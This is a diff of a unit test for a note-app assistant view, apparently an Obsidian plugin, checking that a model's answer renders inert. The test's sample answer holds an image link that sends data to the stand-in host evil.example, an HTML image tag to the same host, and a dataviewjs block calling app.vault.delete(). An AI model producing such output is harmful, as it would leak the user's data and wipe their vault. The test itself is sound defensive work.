@@ -75,7 +75,7 @@ describe("AskView", () => {
 		expect(conversations().map((c) => [c.id, c.title])).toEqual([[sent.conversation, "What leavens sourdough?"]]);
 	});
 
-	it("draws a model's image as a link and its query block inert: nothing is fetched or run", async () => {
+	it("draws a model's answer inert: its image and query block are neither fetched nor run", async () => {
 		const hostile = { ...ANSWER, answer: "Leaven it [1]. ![x](https://evil.example/?d=zafiro) <img src=https://evil.example/>\n\n```dataviewjs\napp.vault.delete()\n```" };
 		const drawn: string[] = [];
 		const render = vi.spyOn(MarkdownRenderer, "render").mockImplementation(async (_app, markdown) => void drawn.push(markdown));
@@ -89,7 +89,7 @@ describe("AskView", () => {
 		} finally {
 			render.mockRestore();
 		}
-		expect(drawn).toEqual(["Leaven it [1]. [x](https://evil.example/?d=zafiro) &lt;img src=https://evil.example/>\n\n```text dataviewjs\napp.vault.delete()\n```"]);
+		expect(drawn).toEqual(["Leaven it [1]. !\u2060[x](https://evil.example/?d=zafiro) <\u2060img src=https://evil.example/>\n\n```text dataviewjs\napp.vault.delete()\n```"]);
 	});
 
 	it("continues the same conversation and in private mode when toggled", async () => {
